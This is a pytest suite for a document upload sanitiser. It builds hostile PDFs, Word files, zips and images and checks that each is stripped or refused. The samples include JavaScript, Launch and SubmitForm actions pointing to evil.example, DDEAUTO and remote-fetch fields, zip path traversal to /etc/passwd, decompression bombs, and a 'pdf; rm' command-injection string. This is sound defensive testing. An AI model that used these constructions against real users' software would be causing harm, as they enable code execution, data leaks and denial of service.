"""IN-12 to IN-20, PR-08: what is taken in, what is not and why, and what the copy for reading leaves behind."""

from __future__ import annotations

import resource
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from files_made import W, bomb, link, lying, overlapped, pdf, photo, word, zipped
from keywork.web.documents.intake import confined
from keywork.web.documents.intake.looking import look
from keywork.web.documents.intake.verdicts import WORDS, Refusal

BODY = f"<w:document {W}>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CANARIES = (b"Zyxcanary", b"Qwvcanary", b"Canarycamera")


def js(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('Qwvcanary')"))


def js_by_name(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("this.Qwvcanary()"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(action)])))


def launch(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.Launch, F=String("Qwvcanary.exe"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)
    made.pages[0].Annots = Array([made.make_indirect(note)])


def chained(made: pikepdf.Pdf) -> None:
    then = made.make_indirect(Dictionary(S=Name.Launch, F=String("Qwvcanary.exe")))
    action = Dictionary(S=Name.GoTo, D=String("x"), Next=then)
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=made.make_indirect(action))
    made.pages[0].Annots = Array([note])


def on_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("Qwvcanary")))


def submits(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/Qwvcanary"))
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=[0, 0, 9, 9], A=action, T=String("b"))
    field = made.make_indirect(field)
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("Qwvcanary"))


def rich(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Contents=String("Qwvcanary"))])


def signed_by(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = "Zyxcanary Author"
    made.Root.Metadata = made.make_stream(b"<x:xmpmeta>Qwvcanary</x:xmpmeta>")
    made.pages[0].PieceInfo = Dictionary(App=Dictionary(Private=String("Qwvcanary")))


def with_photo(made: pikepdf.Pdf) -> None:
    image = made.make_stream(photo())
    image.update(
        Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, ColorSpace=Name.DeviceRGB,
                   BitsPerComponent=8, Filter=Name.DCTDecode)
    )  # fmt: skip
    made.pages[0].Resources.XObject = Dictionary(P=image)


def script_address(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("javascript:Qwvcanary()"))
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)])


ACTING = [js, js_by_name, launch, chained, on_page, submits, rich, signed_by, with_photo, script_address]


def bytes_of(content: bytes) -> bytes:
    """Every byte of a PDF, with its streams unpacked."""
    with pikepdf.open(BytesIO(content)) as made:
        told = [one.read_bytes() if one.get("/Filter") != Name.DCTDecode else one.read_raw_bytes()
                for one in made.objects if isinstance(one, pikepdf.Stream)]  # fmt: skip
        plain = BytesIO()
        made.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=True)
    return b"".join([content, plain.getvalue(), *told])


@pytest.mark.parametrize("change", ACTING, ids=lambda one: one.__name__)
def test_what_acts_or_tells_in_a_pdf_is_not_in_its_copy(change: Callable[[pikepdf.Pdf], None]) -> None:
    hostile = pdf("A page", change=change)
    assert any(canary in bytes_of(hostile) for canary in CANARIES), "the file must hold what is looked for"
    copy = look(hostile, "pdf")
    told = bytes_of(copy.content)
    for canary in (*CANARIES, b"/JavaScript", b"/Launch", b"/SubmitForm", b"/OpenAction", b"/AA", b"/XFA"):
        assert canary not in told
    assert copy.taken_out
    assert b"A page" in told


def test_an_honest_pdf_keeps_its_words_bookmarks_and_links() -> None:
    def change(made: pikepdf.Pdf) -> None:
        with made.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Chapter", 0))
        action = Dictionary(S=Name.URI, URI=String("https://www.example.org/"))
        made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)])
        made.Root.Lang = String("en-GB")

    told = look(pdf("One", "Two", change=change), "pdf")
    assert not told.taken_out
    with pikepdf.open(BytesIO(told.content)) as made:
        assert len(made.pages) == 2
        assert str(made.Root.Lang) == "en-GB"
        assert str(made.pages[0].Annots[0].A.URI) == "https://www.example.org/"
        with made.open_outline() as outline:
            assert outline.root[0].title == "Chapter"


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["secret.txt"] = b"Qwvcanary"


def attached_note(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"Qwvcanary")
    spec = Dictionary(Type=Name.Filespec, F=String("x"), EF=Dictionary(F=stream))
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=spec)])


def xlsx() -> bytes:
    kinds = '<Types><Override PartName="/x" ContentType="application/vnd.ms-excel.spreadsheetml"/></Types>'
    return zipped(("[Content_Types].xml", kinds.encode()), ("xl/workbook.xml", b"<x/>"))


def many_pages() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        for _ in range(1_001):
            made.add_blank_page()

    return pdf(change=change)


SIMPLE = f'<w:p><w:fldSimple w:instr="%s" {W}/></w:p>'
SPLIT = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAUTO", ' c:\\x "calc"'))
REFUSED: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("nothing in it", "pdf", lambda: b"", "empty"),
    ("old Word", "doc", lambda: OLE + bytes(600), "legacy"),
    ("old Word by another name", "docx", lambda: OLE + bytes(600), "legacy"),
    ("Word with a password", "docx", lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("rich text", "rtf", lambda: b"{\\rtf1 x}", "legacy"),
    ("Word with macros", "docm", word, "macros"),
    ("macros by content type", "docx", lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("macros as a part", "docx", lambda: word(parts={"word/vbaProject.bin": b"x"}), "macros"),
    ("any binary part", "docx", lambda: word(parts={"word/oddName.bin": b"x"}), "macros"),
    ("a remote template", "docx", lambda: word(links=link("attachedTemplate", "http://evil.example/t.dotm")), "external"),
    ("a remote picture", "docx", lambda: word(links=link("image", "http://evil.example/i.png")), "external"),
    ("a link to a share", "docx", lambda: word(links=link("hyperlink", "file://evil/share")), "external"),
    ("a link that is a script", "docx", lambda: word(links=link("hyperlink", "javascript:x()")), "external"),
    ("an object", "docx", lambda: word(links=link("oleObject", "embeddings/a.xml", external=False)), "embedded"),
    ("an object as a part", "docx", lambda: word(parts={"word/embeddings/oleObject1.xml": b"<x/>"}), "embedded"),
    ("a part of nobody's", "docx", lambda: word(parts={"payload/run.xml": b"<x/>"}), "embedded"),
    ("another Word file in it", "docx", lambda: word(parts={"word/media/a.png": word()}), "embedded"),
    ("a control", "docx", lambda: word(parts={"word/activeX/activeX1.xml": b"<x/>"}), "embedded"),
    ("DDE in one field", "docx", lambda: word(body=SIMPLE % "DDEAUTO c:\\x"), "fields"),
    ("DDE in pieces", "docx", lambda: word(body=f"<w:p>{SPLIT}</w:p>"), "fields"),
    ("a field that fetches", "docx", lambda: word(body=SIMPLE % "INCLUDEPICTURE http://evil.example/a"), "fields"),
    ("comments", "docx", lambda: word(parts={"word/comments.xml": b"<x>Qwvcanary</x>"}), "comments"),
    ("tracked insertion", "docx", lambda: word(body="<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"), "tracked"),
    ("tracked deletion", "docx", lambda: word(body="<w:p><w:del><w:r><w:delText>x</w:delText></w:r></w:del></w:p>"), "tracked"),
    ("tracked in a header", "docx", lambda: word(parts={"word/header1.xml": f"<w:hdr {W}><w:del/></w:hdr>".encode()}), "tracked"),
    ("hidden text", "docx", lambda: word(body="<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"), "hidden"),
    ("built-in fonts", "docx", lambda: word(parts={"word/fonts/font1.odttf": b"x"}), "fonts"),
    ("a drawn picture", "docx", lambda: word(parts={"word/media/a.svg": b"<svg/>"}), "picture-code"),
    ("an entity", "docx", lambda: word(parts={"word/header1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "zip"),
    ("an entity late", "docx", lambda: word(parts={"word/header1.xml": b"<?xml version='1.0'?>" + b" " * 9000 + b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), "zip"),
    ("a bomb", "docx", bomb, "zip-bomb"),
    ("data on top of each other", "docx", overlapped, "zip"),
    ("an entry that lies", "docx", lying, "zip"),
    ("too many entries", "docx", lambda: zipped(*((f"word/a{n}.xml", b"") for n in range(2_001))), "zip-bomb"),
    ("out of the folder", "docx", lambda: zipped(("../../etc/cron.xml", b"x")), "zip"),
    ("out by a back stroke", "docx", lambda: zipped(("word\\..\\..\\x.xml", b"x")), "zip"),
    ("out by a code", "docx", lambda: zipped(("word/%2e%2e/x.xml", b"x")), "zip"),
    ("from the root", "docx", lambda: zipped(("/etc/passwd", b"x")), "zip"),
    ("a device", "docx", lambda: zipped(("word/CON.xml", b"x")), "zip"),
    ("a link in place of a file", "docx", lambda: zipped(("word/a.xml", b"/etc/passwd"), mode=0o120777), "zip"),
    ("one name twice", "docx", lambda: zipped(("word/a.xml", b"x"), ("word/A.xml", b"y")), "zip"),
    ("half a container", "docx", lambda: word()[:-40], "zip"),
    ("a container of nothing known", "docx", lambda: zipped(("a.xml", b"x")), "archive"),
    ("a zip by its name", "zip", lambda: zipped(("a.xml", b"x")), "archive"),
    ("a spreadsheet", "xlsx", xlsx, "spreadsheet"),
    ("a spreadsheet as Word", "docx", xlsx, "spreadsheet"),
    ("a PDF with files", "pdf", lambda: pdf(change=attached), "attachments"),
    ("a PDF with a file pinned on", "pdf", lambda: pdf(change=attached_note), "attachments"),
    ("a PDF with a password", "pdf", lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")), "encrypted"),
    ("half a PDF", "pdf", lambda: b"%PDF-1.7\n1 0 obj <<", "damaged"),
    ("a PDF of no pages", "pdf", lambda: pdf(change=lambda made: made.pages.__delitem__(0)), "damaged"),
    ("a PDF of too many pages", "pdf", many_pages, "pages"),
    ("a PDF that unpacks to 500 MB", "pdf", lambda: pdf(change=huge_stream), "pdf-bomb"),
    ("HTML called a photo", "jpg", lambda: b"<html><script>alert(1)</script>", "picture-code"),
    ("HTML before a PDF", "pdf", lambda: b"<html>" + pdf(), "picture-code"),
    ("a PDF called a photo", "jpg", pdf, "mismatch"),
    ("a photo called a PDF", "pdf", photo, "mismatch"),
    ("a program", "exe", lambda: b"MZ" + bytes(99), "kind"),
    ("a program called a PDF", "pdf", lambda: b"MZ" + bytes(99), "mismatch"),
    ("a drawing with a script", "svg", lambda: b"<svg onload='x()'/>", "picture-code"),
    ("a photo of a phone", "heic", lambda: bytes(4) + b"ftypheic" + bytes(20), "heic"),
    ("the same called a JPEG", "jpg", lambda: bytes(4) + b"ftypheic" + bytes(20), "heic"),
    ("half a photo", "jpg", lambda: photo()[:300], "damaged"),
    ("a flood of dots", "png", lambda: photo("PNG", (8_000, 7_000)), "pixels"),
    ("a NUL in a text", "txt", lambda: b"a\0b", "text"),
    ("UTF-16 as text", "txt", lambda: "Hello".encode("utf-16"), "text"),
    ("a page called text", "txt", lambda: b"<html>x</html>", "picture-code"),
    ("no ending", "", pdf, "kind"),
]  # fmt: skip


@pytest.mark.parametrize(("ending", "make", "code"), [one[1:] for one in REFUSED], ids=[one[0] for one in REFUSED])
def test_what_is_not_taken_is_told_why(ending: str, make: Callable[[], bytes], code: str) -> None:
    with pytest.raises(Refusal) as refused:
        look(make(), ending)
    assert refused.value.code == code
    assert WORDS[code].endswith(".")


@pytest.mark.parametrize("make", [bomb, overlapped, lying], ids=lambda one: one.__name__)
def test_a_bomb_is_known_before_it_is_unpacked(make: Callable[[], bytes]) -> None:
    """IN-12, IN-13: within a second, and without the memory that it asks for."""
    hostile, before, began = make(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    with pytest.raises(Refusal):
        look(hostile, "docx")
    assert time.monotonic() - began < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_a_photo_is_made_afresh() -> None:
    """IN-20: no place, no camera, no author, and nothing that was hung on behind (IN-17)."""
    hostile = photo() + zipped(("evil.class", b"Qwvcanary"))
    assert all(canary in hostile for canary in CANARIES)
    copy = look(hostile, "jpg")
    assert not any(canary in copy.content for canary in CANARIES)
    found = Image.open(BytesIO(copy.content))
    assert (found.size, found.format, dict(found.getexif())) == ((64, 48), "JPEG", {})


def test_a_photo_that_lies_on_its_side_is_put_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    assert Image.open(BytesIO(look(photo(exif=exif), "jpg").content)).size == (48, 64)


def test_a_picture_keeps_what_shows_through() -> None:
    into = BytesIO()
    Image.new("RGBA", (9, 9), (1, 2, 3, 0)).save(into, "PNG")
    assert Image.open(BytesIO(look(into.getvalue(), "png").content)).getpixel((4, 4)) == (1, 2, 3, 0)


def test_a_word_document_is_packed_afresh() -> None:
    hostile = word("A report of Łucja", parts={"word/media/image1.jpeg": photo(), "docProps/thumbnail.jpeg": photo()})
    copy = look(hostile, "docx")
    with ZipFile(BytesIO(copy.content)) as archive:
        told = {name: archive.read(name) for name in archive.namelist()}
    assert not any(canary in data for data in told.values() for canary in CANARIES)
    assert "A report of Łucja".encode() in told["word/document.xml"]
    assert "docProps/custom.xml" not in told
    assert Image.open(BytesIO(told["word/media/image1.jpeg"])).size == (64, 48)


def test_a_word_document_may_link_to_a_page() -> None:
    assert look(word(links=link("hyperlink", "https://www.example.org/")), "docx").ending == "docx"


@pytest.mark.parametrize(
    ("sent", "kept"), [(b"caf\xe9", "café"), ("\ufeffZoë ❤".encode(), "Zoë ❤"), (b"a\tb\r\n", "a\tb\r\n")]
)
def test_text_is_kept_as_text(sent: bytes, kept: str) -> None:
    assert look(sent, "txt").content.decode() == kept


def test_every_verdict_can_be_acted_on() -> None:
    codes = {one[3] for one in REFUSED} | {"time"}
    assert codes == set(WORDS)


class TestChild:
    def test_looks_the_same_from_a_process_of_its_own(self) -> None:
        sent = photo()
        assert confined.look_through(sent, "jpg") == look(sent, "jpg")

    @pytest.mark.parametrize("ending", ["pdf; rm", "../x", "PDF" * 9, "ﬁ", "a\nb"])
    def test_takes_no_ending_that_is_none(self, ending: str) -> None:
        with pytest.raises(Refusal) as refused:
            confined.look_through(pdf(), ending)
        assert refused.value.code == "kind"

    def test_that_takes_too_long_is_ended(self) -> None:
        with pytest.raises(Refusal) as refused:
            confined.look_through(pdf(), "pdf", longest=0.01)
        assert refused.value.code == "time"

    def test_that_dies_refuses_the_file(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(confined, "CHILD", "keywork.web.documents.intake.nowhere")
        with pytest.raises(Refusal) as refused:
            confined.look_through(pdf(), "pdf")
        assert refused.value.code == "time"

    @pytest.mark.parametrize(
        "act",
        [
            "bytearray(2_000_000_000)",
            "import os; os.write(os.open('/tmp/keywork-child', os.O_CREAT | os.O_WRONLY), b'x')",
        ],
    )
    def test_may_use_little_memory_and_writes_nowhere(self, act: str) -> None:
        """IN-19: the process dies, the product does not."""
        program = f"from keywork.web.documents.intake.child import confine; confine(); {act}"
        done = subprocess.run([sys.executable, "-c", program], capture_output=True, check=False)
        assert done.returncode != 0


def huge_stream(made: Any) -> None:
    """A page of 500 MB once unpacked, in half a megabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10_000_000)) for _ in range(50)) + packer.flush()
    stream = made.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    made.pages[0].Contents = stream


def test_the_corpus_is_large_enough() -> None:
    assert len(REFUSED) + len(ACTING) >= 75


def test_deflated_and_stored_parts_both_read() -> None:
    with ZipFile(BytesIO(word())) as archive:
        parts = [(name, archive.read(name)) for name in archive.namelist()]
    assert look(zipped(*parts), "docx").content == look(zipped(*parts, method=ZIP_DEFLATED), "docx").content
